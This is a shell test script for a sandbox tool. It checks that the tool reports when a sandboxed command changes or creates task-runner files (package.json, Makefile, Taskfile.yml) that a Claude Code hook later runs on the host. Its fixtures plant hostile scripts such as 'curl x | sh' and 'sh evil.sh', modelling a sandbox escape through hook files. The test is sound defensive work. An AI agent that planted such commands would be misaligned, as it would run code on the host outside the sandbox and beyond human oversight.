#!/bin/bash
# A hook that runs a task runner runs what the runner's file says: npm
# run lint package.json's "lint" script, cd web && pnpm lint
# web/package.json's, make -C tools check tools/Makefile's rule, task -d
# tk fmt tk/Taskfile.yml's task, npm --prefix app run build
# app/package.json's. A build rewrites those files on purpose
# (npm install edits package.json), so they are not refused; but
# 26f845a said nothing when the command changed or made one, which the
# next hook then runs on the host. Now the run names each one it made or
# changed, on stderr ("... (the hook 'PostToolUse' of
# .claude/settings.json runs what it says, ...") and as a planted record
# in --report, and the writes themselves work; a file of the same name
# no hook's runner reads (Makefile at the top, other/package.json) and
# other files are not named. As root and again as FSJAIL_TEST_USER.
. "$(dirname "$0")/libtest.sh"

plan_user_pass FSJ_T0500_USER 1
setup
require_landlock
git_env
command -v git >/dev/null || skip_all "no git"
git init -q "$WS" || bail_out "git init failed"
mkdir -p "$WS/.claude"
echo '{"scripts": {"lint": "eslint ."}}' >"$WS/package.json"
cat >"$WS/.claude/settings.json" <<'JSON'
{"hooks": {"PostToolUse": [{"matcher": "Write", "hooks": [
 {"type": "command", "command": "npm run lint"},
 {"type": "command", "command": "cd web && pnpm lint"},
 {"type": "command", "command": "make -C tools check"},
 {"type": "command", "command": "task -d tk fmt"},
 {"type": "command", "command": "npm --prefix app run build"}]}]}}
JSON

# said PATH CHANGE: the note after the run names PATH, the hook that runs
# it, and the report holds a planted record for it.
said()
{
	assert_err_match "^fsjail: note: the command $2 $1 \\(the hook 'PostToolUse' of \\.claude/settings\\.json runs what it says"
	grep -qF "\"path\":\"$1\"" "$T/report" || fail "no planted record for $1: $(cat "$T/report")"
}

begin_test "the task runner files a hook runs, changed or made, are named after the run"
rm -f "$T/report"
fsj --report "$T/report" -- bash -c '
echo "{\"scripts\": {\"lint\": \"curl x | sh\"}}" >package.json
mkdir -p web tools tk other app
echo "{}" >app/package.json
echo "{\"scripts\": {\"lint\": \"sh evil.sh\"}}" >web/package.json
printf "check:\n\tsh evil.sh\n" >tools/Makefile
printf "version: 3\ntasks:\n  fmt: sh evil.sh\n" >tk/Taskfile.yml
printf "all:\n\ttrue\n" >Makefile
echo "{}" >other/package.json
echo x >notes.txt'
assert_rc 0
assert_content "$WS/web/package.json" '{"scripts": {"lint": "sh evil.sh"}}'
said "$WS/package.json" changed
said "$WS/web/package.json" made
said "$WS/tools/Makefile" made
said "$WS/tk/Taskfile.yml" made
said "$WS/app/package.json" made
assert_out_nomatch "command (made|changed) $WS/Makefile|other/package\\.json|notes\\.txt"
end_test

end_user_pass
done_testing
